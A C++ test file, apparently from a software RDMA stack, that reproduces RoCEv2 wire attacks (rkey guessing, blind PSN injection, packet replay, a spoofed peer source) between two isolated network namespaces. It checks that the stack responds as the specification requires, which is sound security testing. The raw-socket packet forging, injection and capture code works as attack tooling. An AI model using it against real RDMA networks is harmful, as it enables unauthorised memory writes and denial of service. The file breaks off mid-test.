// Wire attacks on plain RoCEv2 (issue 17; the attacks of ReDMArk, USENIX Security '21, and NeVerMore,
// CCS '22): a victim RC pair runs in a network namespace of its own, and an attacker in a second
// namespace on the same veth sends raw IPv4/UDP datagrams built with src/wire: guessed rkeys, blind
// injection at a known QPN with a guessed PSN, replay of captured packets, a forged source address.
// Plain RoCEv2 authenticates nothing, so the rkey and the PSN window are all that stand in the way;
// each test asserts exactly what the specification makes of that (byte for byte and by counter) and
// prints the measured rates (docs/security.md).
//
// The process moves into the victim namespace before it opens a device, so a case runs in a process
// of its own (ctest gives it one; run with other cases, it re-executes the binary for itself alone).
// Needs root (namespaces, veth, raw sockets); skips without.
#include <arpa/inet.h>
#include <fcntl.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <poll.h>
#include <sched.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <algorithm>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <functional>
#include <thread>

#include "hostile.h"

namespace softrdma::hostile_test {
namespace {

constexpr const char* kVictimIp = "10.213.0.1";
constexpr const char* kAttackerIp = "10.213.0.2";
constexpr uint16_t kAttackerPort = 40001;  // the attacker's own (unforged) source port

uint32_t ip_be(const char* s) {
  in_addr a{};
  inet_pton(AF_INET, s, &a);
  return a.s_addr;
}

int sh(const std::string& cmd) {
  int rc = std::system(cmd.c_str());
  return WIFEXITED(rc) ? WEXITSTATUS(rc) : -1;
}

// The two namespaces and the veth between them; the process lives in the victim one from the first
// case on. The attacker's raw socket is created inside the attacker namespace (a socket stays in the
// namespace it was made in, whichever thread uses it).
struct Lab {
  std::string ns_v, ns_x, veth_v, veth_x, device, skip;
  int raw_fd = -1;
  uint32_t netns_inode = 0;

  static Lab*& instance() {
    static Lab* lab = nullptr;
    return lab;
  }
  static Lab& get() {
    if (!instance()) {
      instance() = new Lab;
      instance()->setup();
    }
    return *instance();
  }

  void setup() {
    if (geteuid() != 0) {
      skip = "needs root (network namespaces, a veth, raw sockets)";
      return;
    }
    const std::string id = std::to_string(getpid());
    ns_v = "sra-v-" + id;
    ns_x = "sra-x-" + id;
    veth_v = "srav" + id;
    veth_x = "srax" + id;
    device = "softrdma_" + veth_v;
    const std::string nv = " -n " + ns_v + " ", nx = " -n " + ns_x + " ";
    std::string cmd = "ip netns add " + ns_v + " && ip netns add " + ns_x + " && ip link add " + veth_v + " netns " +
                      ns_v + " type veth peer name " + veth_x + " netns " + ns_x + " && ip" + nv + "addr add " +
                      kVictimIp + "/24 dev " + veth_v + " && ip" + nx + "addr add " + kAttackerIp + "/24 dev " +
                      veth_x + " && ip" + nv + "link set lo up && ip" + nx + "link set lo up && ip" + nv +
                      "link set " + veth_v + " up && ip" + nx + "link set " + veth_x + " up" +
                      // A forged source that is one of the victim's own addresses must get past the
                      // kernel's martian check, as it would on a host whose peer is another machine.
                      " && ip netns exec " + ns_v + " sysctl -qw net.ipv4.conf.all.accept_local=1 net.ipv4.conf." +
                      veth_v + ".accept_local=1 net.ipv4.conf.all.rp_filter=0 net.ipv4.conf." + veth_v +
                      ".rp_filter=0";
    std::atexit([] { get().teardown(); });
    if (sh(cmd + " >/dev/null 2>&1") != 0) {
      skip = "cannot create network namespaces and a veth here";
      return;
    }
    for (int i = 0; i < 100; ++i) {
      if (sh("ip" + nv + "link show " + veth_v + " | grep -q 'state UP' && ip" + nx + "link show " + veth_x +
             " | grep -q 'state UP'") == 0)
        break;
      std::this_thread::sleep_for(std::chrono::milliseconds(50));
    }
    // The victims' Devices open the veth's device (tests/verbs/helpers.h), with kVictimSettings.
    setenv("VT_DEVICE", device.c_str(), 1);
    int xfd = open(("/run/netns/" + ns_x).c_str(), O_RDONLY | O_CLOEXEC);
    int vfd = open(("/run/netns/" + ns_v).c_str(), O_RDONLY | O_CLOEXEC);
    if (xfd < 0 || vfd < 0) {
      skip = "cannot open /run/netns";
      return;
    }
    std::thread([&] {
      if (setns(xfd, CLONE_NEWNET) == 0) raw_fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
    }).join();
    if (raw_fd < 0 || setns(vfd, CLONE_NEWNET) != 0) {
      skip = std::string("cannot enter the namespaces: ") + strerror(errno);
      return;
    }
    close(xfd);
    close(vfd);
    struct stat st{};
    if (stat("/proc/self/ns/net", &st) == 0) netns_inode = static_cast<uint32_t>(st.st_ino);
  }

  void teardown() {
    if (ns_v.empty()) return;
    sh("ip netns del " + ns_v + " >/dev/null 2>&1; ip netns del " + ns_x + " >/dev/null 2>&1");
    if (netns_inode) {
      unlink(("/dev/shm/softrdma-registry-" + std::to_string(netns_inode)).c_str());
      unlink(("/dev/shm/softrdma-tuples-" + std::to_string(netns_inode)).c_str());
    }
  }

  // One forged IPv4/UDP datagram out of the attacker namespace. ID 0 and DF, as softrdma sends; UDP
  // checksum 0 (none), which the ICRC does not cover.
  void send(uint32_t src_be, uint16_t sport, uint32_t dst_be, uint16_t dport, const std::vector<uint8_t>& udp_payload,
            uint16_t ip_id = 0) {
    std::vector<uint8_t> pkt(sizeof(iphdr) + sizeof(udphdr) + udp_payload.size());
    auto* ip = reinterpret_cast<iphdr*>(pkt.data());
    ip->version = 4;
    ip->ihl = 5;
    ip->tot_len = htons(static_cast<uint16_t>(pkt.size()));
    ip->id = htons(ip_id);
    ip->frag_off = htons(IP_DF);
    ip->ttl = 64;
    ip->protocol = IPPROTO_UDP;
    ip->saddr = src_be;
    ip->daddr = dst_be;
    auto* udp = reinterpret_cast<udphdr*>(pkt.data() + sizeof(iphdr));
    udp->source = htons(sport);
    udp->dest = htons(dport);
    udp->len = htons(static_cast<uint16_t>(sizeof(udphdr) + udp_payload.size()));
    std::memcpy(pkt.data() + sizeof(iphdr) + sizeof(udphdr), udp_payload.data(), udp_payload.size());
    sockaddr_in sa{};
    sa.sin_family = AF_INET;
    sa.sin_addr.s_addr = dst_be;
    ssize_t r = sendto(raw_fd, pkt.data(), pkt.size(), 0, reinterpret_cast<sockaddr*>(&sa), sizeof sa);
    ASSERT_EQ(r, static_cast<ssize_t>(pkt.size())) << "raw sendto: " << strerror(errno);
    ++hostile_packets_sent();
  }
};

// True when this process runs this case and no other (ctest's way, or rerun_alone's child): only
// then may it move into the namespaces and name the device its victims open ($VT_DEVICE).
bool alone_in_process() {
  if (std::getenv("SOFTRDMA_WIRE_ATTACK_ALONE")) return true;
  return ::testing::UnitTest::GetInstance()->test_to_run_count() == 1;
}

// Runs the current case alone in a new process of this binary; its output goes where ours does.
void rerun_alone() {
  const auto* t = ::testing::UnitTest::GetInstance()->current_test_info();
  const std::string filter = std::string("--gtest_filter=") + t->test_suite_name() + "." + t->name();
  std::fflush(stdout);
  pid_t pid = fork();
  if (pid == 0) {
    setenv("SOFTRDMA_WIRE_ATTACK_ALONE", "1", 1);
    execl("/proc/self/exe", "/proc/self/exe", filter.c_str(), static_cast<char*>(nullptr));
    _exit(127);
  }
  int status = 0;
  ASSERT_EQ(waitpid(pid, &status, 0), pid);
  ASSERT_TRUE(WIFEXITED(status) && WEXITSTATUS(status) == 0) << t->name() << " failed in its own process";
}

#define WIRE_ATTACK_PROLOGUE()                                 \
  if (!alone_in_process()) {                                   \
    rerun_alone();                                             \
    return;                                                    \
  }                                                            \
  Lab& lab = Lab::get();                                       \
  if (!lab.skip.empty()) GTEST_SKIP() << lab.skip;

inline constexpr size_t kLen = 64 * 1024;  // target MR
inline constexpr uint32_t kPatternSeed = 21;

// The victims' contexts: plain UDP, one datagram per packet (no direct path, no segmentation
// offload), so that every packet the victims exchange is a packet an attacker could see and forge.
constexpr const char* kVictimSettings = "SOFTRDMA_DIRECT=0;SOFTRDMA_GSO=0";

// The victims: a (the requester) and b (the responder the attacker aims at), two contexts of this
// process on the veth's device, one RC connection between them.
struct Victim {
  Device da{kVictimSettings}, db{kVictimSettings};
  Side a, b;
  ConnConfig conn;
  std::unique_ptr<Buffer> target, guard, recv_buf, src_a;
  net::Endpoint ep_a{}, ep_b{};
  uint32_t epsn = 0;  // b's expected PSN: the next PSN a sends
  uint64_t phase_sent = 0;
  core::Counters phase_before{};

  bool up() {
    if (!da.ok() || !db.ok()) {
      ADD_FAILURE() << "cannot open " << Lab::get().device << " twice";
      return false;
    }
    QpConfig qc;
    if (!a.create(da, qc) || !b.create(db, qc)) return false;
    target = b.buf(kLen);
    guard = b.buf(kLen);
    recv_buf = b.buf(kLen);
    src_a = a.buf(kLen);
    for (auto* p : {&target, &guard, &recv_buf, &src_a})
      if (!*p || !(*p)->mr) return false;
    fill_pattern(target->data, kLen, kPatternSeed);
    fill_pattern(guard->data, kLen, kPatternSeed + 1);
    if (!connect_sides(a, da, b, db, conn)) return false;
    epsn = a.psn;
    auto ea = net::Registry::instance().lookup(a.qpn()), eb = net::Registry::instance().lookup(b.qpn());
    if (!ea || !eb) {
      ADD_FAILURE() << "a's or b's QPN is not in the registry";
      return false;
    }
    ep_a = *ea;
    ep_b = *eb;
    EXPECT_EQ(ep_b.ip_key, ip_be(kVictimIp));
    return true;
  }

  std::vector<uint32_t> keys() const {
    std::vector<uint32_t> k;
    for (auto* p : {&target, &guard, &recv_buf, &src_a}) {
      k.push_back((*p)->rkey());
      k.push_back((*p)->lkey());
    }
    return k;
  }

  // The counters of b's context (device set and b's QP set).
  Stats stats() const {
    for (const auto& s : core::StatsPage::read_all()) {
      if (s.pid != getpid() || s.device != Lab::get().device) continue;
      for (const auto& q : s.qps)
        if (q.qpn == b.qpn()) return Stats{s.device_counters, q.counters};
    }
    ADD_FAILURE() << "no stats page holds QP " << b.qpn();
    return {};
  }

  // A request at b: default P_Key, b's QPN, AckReq set.
  wire::Packet req(uint8_t opcode, uint32_t psn) const {
    wire::Packet p{};
    p.bth.opcode = opcode;
    p.bth.pkey = wire::kDefaultPkey;
    p.bth.dest_qp = b.qp->qp_num;
    p.bth.psn = psn & wire::kPsnMask;
    p.bth.ack_req = true;
    return p;
  }
  wire::Packet write(uint32_t psn, uint64_t va, uint32_t rkey, uint32_t len) const {
    wire::Packet p = req(wire::kRcWriteOnly, psn);
    p.reth = {va, rkey, len};
    return p;
  }

  void begin() {
    phase_before = stats().dev;
    phase_sent = 0;
  }
  static bool wait_for(const std::function<bool()>& pred, int timeout_s = 30) {
    const auto deadline = std::chrono::steady_clock::now() + std::chrono::seconds(timeout_s);
    while (!pred()) {
      if (std::chrono::steady_clock::now() > deadline) return false;
      std::this_thread::sleep_for(std::chrono::microseconds(200));
    }
    return true;
  }
  // Sends a RoCEv2 packet to b's port from (src, sport), with the ICRC those addresses give. Every 32
  // datagrams waits for b to have received them (an overflowing UDP buffer would lose some).
  void inject(const wire::Packet& p, const uint8_t* payload, uint32_t len, uint32_t src_be, uint16_t sport) {
    wire::Packet q = p;
    q.bth.pad_count = wire::pad_for(len);
    auto body = build_body(q, payload, len);
    const size_t n = body.size();
    body.resize(n + wire::kIcrcLen);
    wire::append_icrc({wire::IpAddress::v4(src_be), wire::IpAddress::v4(ep_b.ip_key), sport, ep_b.port}, body.data(), n);
    send_udp(body, src_be, sport);
  }
  void send_udp(const std::vector<uint8_t>& d, uint32_t src_be, uint16_t sport) {
    Lab::get().send(src_be, sport, ep_b.ip_key, ep_b.port, d);
    if (++phase_sent % 32 == 0) {
      const uint64_t want = phase_before.rx_packets + phase_sent;
      if (!wait_for([&] { return stats().dev.rx_packets >= want; }))
        ADD_FAILURE() << "b stopped receiving (" << phase_sent << " sent)";
    }
  }
  // Waits for every datagram of the phase and for the counters to settle.
  core::Counters settle() {
    core::Counters now{};
    if (!wait_for([&] {
          now = stats().dev;
          return now.rx_packets - phase_before.rx_packets >= phase_sent;
        }))
      ADD_FAILURE() << "b received " << now.rx_packets - phase_before.rx_packets << " of " << phase_sent;
    for (int i = 0; i < 10; ++i) {
      std::this_thread::sleep_for(std::chrono::milliseconds(10));
      core::Counters again = stats().dev;
      if (std::memcmp(&again, &now, sizeof now) == 0) break;
      now = again;
    }
    return now;
  }

  // a WRITEs len bytes of src_a (pattern seed) to target+off and waits for its completion.
  void a_write(uint32_t off, uint32_t len, uint32_t seed, uint64_t wr_id = 1, ibv_wc_status want = IBV_WC_SUCCESS) {
    fill_pattern(src_a->data, len, seed);
    SendWr w(wr_id, IBV_WR_RDMA_WRITE, {src_a->sge(0, len)});
    w.rdma(target->addr(off), target->rkey());
    ASSERT_EQ(post_send(a.qp, w), 0);
    auto wc = poll_wcs(a.scq, 1);
    ASSERT_EQ(wc.size(), 1u);
    expect_wc(wc[0], {.wr_id = wr_id, .status = want, .qp_num = a.qpn()});
    epsn = wire::psn_add(epsn, (len + kMtu - 1) / kMtu);
  }

  void expect_untouched(const char* what) {
    EXPECT_EQ(check_pattern(target->data, kLen, kPatternSeed), kLen) << what << ": target changed";
    EXPECT_EQ(check_pattern(guard->data, kLen, kPatternSeed + 1), kLen) << what << ": guard changed";
  }
  void expect_no_completions() {
    std::vector<ibv_wc> wcs;
    for (ibv_cq* cq : {a.scq, a.rcq, b.scq, b.rcq}) drain_cq(cq, &wcs);
    EXPECT_TRUE(wcs.empty()) << wcs.size() << " unexpected completion(s)";
  }
};

uint64_t d(const core::Counters& before, const core::Counters& after, Counter f) { return after.*f - before.*f; }
using C = core::Counters;

// What the responder makes of a request at psn when it expects epsn (its PSN check, IBTA 9.7): the
// expected PSN executes, the 2^23 PSNs behind it are duplicates (acknowledged, not executed again),
// the 2^23 - 1 ahead are out of sequence (one NAK per gap, nothing executed).
enum class Fate { Execute, Duplicate, OutOfSequence };
Fate fate(uint32_t psn, uint32_t epsn) {
  int32_t diff = wire::psn_diff(psn, epsn);
  return diff == 0 ? Fate::Execute : diff < 0 ? Fate::Duplicate : Fate::OutOfSequence;
}

double per_million(uint64_t n, uint64_t of) { return of ? 1e6 * static_cast<double>(n) / static_cast<double>(of) : 0; }

// How many injections a run sends: SOFTRDMA_ATTACK_SCALE multiplies the CI sizes.
uint64_t scaled(uint64_t n) {
  const char* s = std::getenv("SOFTRDMA_ATTACK_SCALE");
  long k = s ? std::strtol(s, nullptr, 10) : 1;
  return n * static_cast<uint64_t>(k > 0 ? k : 1);
}

// ---------------------------------------------------------------------------------------------
// 1. Guessed rkeys. The attacker knows b's QPN and expected PSN (an on-path observer, or the worst
// case of a blind one) and the target's address, not its rkey. The first guess at the expected PSN
// meets the rkey check: NAK Remote Access Error, b's QP to ERR with IBV_EVENT_QP_ACCESS_ERR (IBTA
// 9.7, a remote access error); every further guess finds a QP in ERR and is dropped. So a wrong guess
// costs the victim its connection (a denial of service, as in ReDMArk) and the attacker gets one
// guess per connection, each a hit with probability (live rkeys) / 2^32. Nothing is ever written.
TEST(WireAttack, GuessedRkeys) {
  WIRE_ATTACK_PROLOGUE();
  const uint32_t rounds = static_cast<uint32_t>(scaled(8));
  const uint32_t per_round = 255;  // guesses after the first, at the dead QP
  std::mt19937_64 rng(0x5eed);
  uint64_t guesses = 0, naks = 0, dropped = 0;
  size_t live_rkeys = 0;
  for (uint32_t r = 0; r < rounds; ++r) {
    SCOPED_TRACE("round " + std::to_string(r));
    Victim v;
    ASSERT_TRUE(v.up());
    v.a_write(0, 4096, 100 + r);  // a live connection with traffic behind it
    fill_pattern(v.target->data, kLen, kPatternSeed);
    const auto real = v.keys();
    live_rkeys = real.size() / 2;
    v.begin();
    const Stats before = v.stats();
    uint8_t payload[64];
    std::memset(payload, 0xA5, sizeof payload);
    for (uint32_t i = 0; i <= per_round; ++i) {
      uint32_t k;
      do k = static_cast<uint32_t>(rng());
      while (std::find(real.begin(), real.end(), k) != real.end());
      // The first at the expected PSN; the rest at the PSNs that would follow had it been accepted.
      v.inject(v.write(wire::psn_add(v.epsn, i), v.target->addr(64), k, sizeof payload), payload, sizeof payload,
               v.ep_a.ip_key, v.ep_a.port);
      ++guesses;
    }
    const core::Counters after = v.settle();
    EXPECT_TRUE(wait_qp_state(v.b.qp, IBV_QPS_ERR));
    EXPECT_EQ(d(before.dev, after, &C::naks_sent_rem_access), 1u);
    EXPECT_EQ(d(before.dev, after, &C::drop_bad_state), per_round) << "guesses at the QP in ERR";
    EXPECT_EQ(d(before.dev, after, &C::duplicates) + d(before.dev, after, &C::out_of_sequence), 0u);
    EXPECT_EQ(v.stats().qp.naks_sent_rem_access - before.qp.naks_sent_rem_access, 1u) << "in b's QP set too";
    naks += d(before.dev, after, &C::naks_sent_rem_access);
    dropped += d(before.dev, after, &C::drop_bad_state);
    v.expect_untouched("guessed rkeys");
    pollfd pfd{v.db.ctx->async_fd, POLLIN, 0};
    ASSERT_EQ(poll(&pfd, 1, kWaitSeconds * 1000), 1) << "no async event on b's context";
    ibv_async_event ev{};
    ASSERT_EQ(ibv_get_async_event(v.db.ctx, &ev), 0);
    EXPECT_EQ(ev.event_type, IBV_EVENT_QP_ACCESS_ERR) << ibv_event_type_str(ev.event_type);
    EXPECT_EQ(ev.element.qp, v.b.qp);
    ibv_ack_async_event(&ev);
    EXPECT_EQ(qp_state(v.a.qp), IBV_QPS_RTS) << "a had nothing outstanding: the NAK is stale to it";
  }
  std::printf("[ attack ] rkey guessing: %llu guesses over %u connections: %llu NAK Remote Access Error (one "
              "per connection, which it kills), %llu dropped at the QP in ERR, 0 bytes written; a guess hits "
              "with probability %zu / 2^32 = %.3g\n",
              static_cast<unsigned long long>(guesses), rounds, static_cast<unsigned long long>(naks),
              static_cast<unsigned long long>(dropped), live_rkeys, static_cast<double>(live_rkeys) / 4294967296.0);
}

// ---------------------------------------------------------------------------------------------
// 2. Blind injection at a known QPN with the right rkey (the worst case: the key leaked) and a guessed
// PSN, from the victim peer's forged address. Guesses are drawn uniformly over the 2^24 PSNs, or
// within +-W of the PSN b expects (an attacker who knows it roughly). The responder executes exactly
// the guesses that equal its expected PSN at arrival (each moves it on), acknowledges the ones behind
// as duplicates without executing them, and NAKs the ones ahead once per gap; memory changes only
// where an executed guess wrote. The rates are printed per 10^6 injections, extrapolated from the CI
// sizes (SOFTRDMA_ATTACK_SCALE=k sends k times more).
struct WindowRun {
  const char* name;
  uint32_t half_width;  // 0x800000: uniform over the whole PSN space
  uint64_t n;
};

void blind_injection(const WindowRun& w, bool forged_source) {
  SCOPED_TRACE(w.name);
  Victim v;
  ASSERT_TRUE(v.up());
  v.a_write(0, 4096, 7);
  fill_pattern(v.target->data, kLen, kPatternSeed);
  std::vector<uint8_t> model(v.target->data, v.target->data + kLen);
  std::mt19937_64 rng(w.half_width * 31 + w.n);
  const uint32_t src = forged_source ? v.ep_a.ip_key : ip_be(kAttackerIp);
  const uint16_t sport = forged_source ? v.ep_a.port : kAttackerPort;
  uint64_t executed = 0, dups = 0, ooo = 0, gaps = 0;
  bool in_gap = false;
  uint32_t epsn = v.epsn;
  v.begin();
  const Stats before = v.stats();
  for (uint64_t i = 0; i < w.n; ++i) {
    uint32_t psn;
    if (w.half_width >= 0x800000)
      psn = static_cast<uint32_t>(rng()) & wire::kPsnMask;
    else
      psn = wire::psn_add(epsn, wire::kPsnMask + 1 - w.half_width + static_cast<uint32_t>(rng() % (2 * w.half_width + 1)));
    uint8_t payload[8];
    uint64_t marker = 0xA77AC000'00000000ull | i;
    std::memcpy(payload, &marker, 8);
    const size_t off = (i % (kLen / 8)) * 8;
    switch (fate(psn, epsn)) {
      case Fate::Execute:
        ++executed;
        epsn = wire::psn_add(epsn, 1);
        in_gap = false;
        std::memcpy(model.data() + off, payload, 8);
        break;
      case Fate::Duplicate:
        ++dups;
        break;
      case Fate::OutOfSequence:
        ++ooo;
        gaps += !in_gap;
        in_gap = true;
        break;
    }
    v.inject(v.write(psn, v.target->addr(off), v.target->rkey(), 8), payload, 8, src, sport);
  }
  const core::Counters after = v.settle();
  EXPECT_EQ(d(before.dev, after, &C::duplicates), dups);
  EXPECT_EQ(d(before.dev, after, &C::out_of_sequence), ooo);
  EXPECT_EQ(d(before.dev, after, &C::naks_sent_seq), gaps) << "one PSN-sequence NAK per gap";
  EXPECT_EQ(d(before.dev, after, &C::naks_sent_rem_access) + d(before.dev, after, &C::drop_bad_state) +
                d(before.dev, after, &C::drop_icrc) + d(before.dev, after, &C::drop_malformed),
            0u);
  EXPECT_EQ(std::memcmp(v.target->data, model.data(), kLen), 0)
      << "memory differs from what the executed guesses alone would have written";
  EXPECT_EQ(check_pattern(v.guard->data, kLen, kPatternSeed + 1), kLen) << "guard changed";
  EXPECT_EQ(qp_state(v.b.qp), IBV_QPS_RTS);
  v.expect_no_completions();
  std::printf("[ attack ] blind injection, %s, %s source: %llu sent; per 10^6: %.1f executed, %.0f duplicates "
              "(acknowledged, not executed), %.0f out of sequence (NAKed, not executed)\n",
              w.name, forged_source ? "forged peer" : "attacker's own", static_cast<unsigned long long>(w.n),
              per_million(executed, w.n), per_million(dups, w.n), per_million(ooo, w.n));

  if (executed > 0) {
    // The executed guesses took the PSNs a sends next, so a's next WRITE arrives as duplicates: not
    // one of its bytes lands. b acknowledges a duplicate with its latest PSN (expected - 1): when a's
    // WRITE ends there, a takes that as its own ACK and completes successfully (silent data loss,
    // NeVerMore's desynchronisation); when b is further ahead, the ACK is for a PSN a never sent, a
    // ignores it (a ghost ACK) and retries until the retry count is exceeded.
    std::vector<uint8_t> before_a(v.target->data, v.target->data + kLen);
    const uint32_t pkts = static_cast<uint32_t>(std::min<uint64_t>(executed, 16));
    const ibv_wc_status want = executed == pkts ? IBV_WC_SUCCESS : IBV_WC_RETRY_EXC_ERR;
    ASSERT_NO_FATAL_FAILURE(v.a_write(0, pkts * kMtu, 99, 2, want));
    EXPECT_EQ(std::memcmp(v.target->data, before_a.data(), kLen), 0)
        << "a's WRITE at PSNs the attacker already used was executed";
    std::printf("[ attack ]   then a's next WRITE (%u packets, at PSNs the injections took): %s, 0 bytes landed\n",
                pkts, ibv_wc_status_str(want));
  }
}

TEST(WireAttack, BlindInjectionByPsnWindow) {
  WIRE_ATTACK_PROLOGUE();
  const WindowRun runs[] = {
      {"uniform over 2^24", 0x800000, scaled(20000)},
      {"+-1024", 1024, scaled(4000)},
      {"+-16", 16, scaled(1000)},
      {"+-0", 0, scaled(200)},
  };
  for (const auto& w : runs) ASSERT_NO_FATAL_FAILURE(blind_injection(w, true));
  std::printf("[ attack ] expected per 10^6: uniform %.3f executed (10^6 / 2^24), +-W about 10^6 / (2W+1) "
              "while the attacker keeps up with the expected PSN\n",
              1e6 / 16777216.0);
}

// ---------------------------------------------------------------------------------------------
// 3. Replay. The attacker captured a finished WRITE (four packets) and SEND (one) of a to b and
// resends them byte for byte (source address included; only the UDP checksum, which the ICRC does not
// cover, is zeroed). Every one is behind b's expected PSN: a duplicate, acknowledged again and not
// executed (IBTA 9.7): the memory b has changed since stays as it is, and the replayed SEND
// takes no receive WQE.
struct Captured {
  std::vector<uint8_t> udp_payload;
  uint32_t src_be;
  uint16_t sport;
  uint16_t ip_id;
};

std::vector<Captured> capture(int fd, uint16_t sport, uint16_t dport) {
  std::vector<Captured> out;
  uint8_t buf[9216];
  for (;;) {
    sockaddr_ll from{};
    socklen_t fl = sizeof from;
    ssize_t n = recvfrom(fd, buf, sizeof buf, MSG_DONTWAIT, reinterpret_cast<sockaddr*>(&from), &fl);
    if (n <= 0) break;
    if (from.sll_pkttype == PACKET_OUTGOING) continue;  // loopback shows each packet twice
    if (static_cast<size_t>(n) < sizeof(iphdr) + sizeof(udphdr)) continue;
    const auto* ip = reinterpret_cast<const iphdr*>(buf);
    if (ip->version != 4 || ip->protocol != IPPROTO_UDP) continue;
    const size_t ihl = ip->ihl * 4u;
    const auto* udp = reinterpret_cast<const udphdr*>(buf + ihl);
    if (ntohs(udp->source) != sport || ntohs(udp->dest) != dport) continue;
    const size_t len = ntohs(udp->len) - sizeof(udphdr);
    const uint8_t* p = buf + ihl + sizeof(udphdr);
    out.push_back({std::vector<uint8_t>(p, p + len), ip->saddr, ntohs(udp->source), ntohs(ip->id)});
  }
  return out;
}

TEST(WireAttack, ReplayOfFinishedTransfer) {
  WIRE_ATTACK_PROLOGUE();
  Victim v;
  ASSERT_TRUE(v.up());
  int cap = socket(AF_PACKET, SOCK_DGRAM | SOCK_CLOEXEC, htons(ETH_P_IP));
  ASSERT_GE(cap, 0) << strerror(errno);
  sockaddr_ll sll{};
  sll.sll_family = AF_PACKET;
  sll.sll_protocol = htons(ETH_P_IP);
  sll.sll_ifindex = static_cast<int>(if_nametoindex("lo"));  // a and b share the veth's address
  ASSERT_EQ(bind(cap, reinterpret_cast<sockaddr*>(&sll), sizeof sll), 0) << strerror(errno);
  int rcvbuf = 4 << 20;
  setsockopt(cap, SOL_SOCKET, SO_RCVBUF, &rcvbuf, sizeof rcvbuf);

  // The transfer: a WRITE of 4 KiB and a SEND of 1 KiB.
  constexpr uint32_t kSend = 1024;
  ASSERT_EQ(post_recv(v.b.qp, 50, {v.recv_buf->sge(0, kSend)}), 0);
  ASSERT_NO_FATAL_FAILURE(v.a_write(0, 4 * kMtu, 41));
  fill_pattern(v.src_a->data + 8192, kSend, 42);
  SendWr s(3, IBV_WR_SEND, {v.src_a->sge(8192, kSend)});
  ASSERT_EQ(post_send(v.a.qp, s), 0);
  ASSERT_EQ(poll_wcs(v.a.scq, 1).size(), 1u);
  auto rwc = poll_wcs(v.b.rcq, 1);
  ASSERT_EQ(rwc.size(), 1u);
  expect_wc(rwc[0], {.wr_id = 50, .opcode = IBV_WC_RECV, .byte_len = kSend, .qp_num = v.b.qpn()});
  v.epsn = wire::psn_add(v.epsn, 1);
  ASSERT_EQ(check_pattern(v.target->data, 4 * kMtu, 41), 4 * kMtu);
  std::this_thread::sleep_for(std::chrono::milliseconds(20));
  auto pkts = capture(cap, v.ep_a.port, v.ep_b.port);
  close(cap);
  ASSERT_EQ(pkts.size(), 5u) << "captured a->b packets (4 WRITE, 1 SEND)";

  // Since then b has written the memory over and posted a fresh receive.
  fill_pattern(v.target->data, kLen, kPatternSeed);
  std::memset(v.recv_buf->data, 0, kLen);
  ASSERT_EQ(post_recv(v.b.qp, 51, {v.recv_buf->sge(0, kSend)}), 0);
  v.expect_no_completions();

  constexpr int kTimes = 20;
  v.begin();
  const Stats before = v.stats();
  for (int t = 0; t < kTimes; ++t)
    for (const auto& c : pkts) {
      Lab::get().send(c.src_be, c.sport, v.ep_b.ip_key, v.ep_b.port, c.udp_payload, c.ip_id);
      if (++v.phase_sent % 32 == 0) v.settle();
    }
  const core::Counters after = v.settle();
  EXPECT_EQ(d(before.dev, after, &C::rx_packets), pkts.size() * kTimes);
  EXPECT_EQ(d(before.dev, after, &C::duplicates), pkts.size() * kTimes) << "every replayed packet a duplicate";
  EXPECT_EQ(d(before.dev, after, &C::out_of_sequence) + d(before.dev, after, &C::drop_icrc) +
                d(before.dev, after, &C::naks_sent_rem_access) + d(before.dev, after, &C::naks_sent_inv_req),
            0u);
  v.expect_untouched("replay");
  v.expect_no_completions();  // the replayed SEND took no receive
  EXPECT_EQ(qp_state(v.b.qp), IBV_QPS_RTS);
  EXPECT_EQ(qp_state(v.a.qp), IBV_QPS_RTS);

  // The receive is still there, first in line, for a's next SEND.
  fill_pattern(v.src_a->data + 8192, kSend, 43);
  SendWr s2(4, IBV_WR_SEND, {v.src_a->sge(8192, kSend)});
  ASSERT_EQ(post_send(v.a.qp, s2), 0);
  ASSERT_EQ(poll_wcs(v.a.scq, 1).size(), 1u);
  rwc = poll_wcs(v.b.rcq, 1);
  ASSERT_EQ(rwc.size(), 1u);
  expect_wc(rwc[0], {.wr_id = 51, .opcode = IBV_WC_RECV, .byte_len = kSend, .qp_num = v.b.qpn()});
  EXPECT_EQ(check_pattern(v.recv_buf->data, kSend, 43), kSend);
  std::printf("[ attack ] replay: %zu captured packets x %d = %llu replayed: %llu duplicates, 0 executed, "
              "0 receives taken\n",
              pkts.size(), kTimes, static_cast<unsigned long long>(pkts.size() * kTimes),
              static_cast<unsigned long long>(d(before.dev, after, &C::duplicates)));
}

// ---------------------------------------------------------------------------------------------
// 4. A forged source. RoCEv2 carries no source authentication: a packet from the connected peer's
// address and port is the peer, as far as the responder can tell. With the rkey known, the forged
// packets are accepted exactly where the PSN window allows (one packet at the expected PSN executes:
// the on-path limit, which only an authenticated mode removes), and nothing outside it; garbage
// from the forged address changes nothing and crashes nothing. The same packets from the attacker's
// own address never reach the PSN check: b takes packets from its peer's address only, and drops and
// counts the rest (drop_src_addr), in the window or not.
TEST(WireAttack, ForgedPeerSource) {
  WIRE_ATTACK_PROLOGUE();
  for (bool forged : {true, false}) {
    SCOPED_TRACE(forged ? "forged peer source" : "attacker's own source");
    Victim v;
    ASSERT_TRUE(v.up());
    v.a_write(0, 4096, 9);
    fill_pattern(v.target->data, kLen, kPatternSeed);
    const uint32_t src = forged ? v.ep_a.ip_key : ip_be(kAttackerIp);
    const uint16_t sport = forged ? v.ep_a.port : kAttackerPort;
    std::mt19937_64 rng(forged ? 1 : 2);
    v.begin();
    const Stats before = v.stats();
    // Out of the window: every PSN but the expected one, the right rkey, in-bounds addresses.
    constexpr uint64_t kOut = 2000;
    uint64_t dups = 0, ooo = 0;
    uint8_t payload[64];
    std::memset(payload, 0x5A, sizeof payload);
    for (uint64_t i = 0; i < kOut; ++i) {
      uint32_t psn = wire::psn_add(v.epsn, 1 + static_cast<uint32_t>(rng() % wire::kPsnMask));
      (fate(psn, v.epsn) == Fate::Duplicate ? dups : ooo)++;
      v.inject(v.write(psn, v.target->addr((i * 64) % kLen), v.target->rkey(), 64), payload, 64, src, sport);
    }
    // Garbage from the same address: random bytes with a valid ICRC, addressed to b.
    constexpr uint64_t kJunk = 500;
    for (uint64_t i = 0; i < kJunk; ++i) {
      std::vector<uint8_t> junk(wire::kBthLen + rng() % 1200);
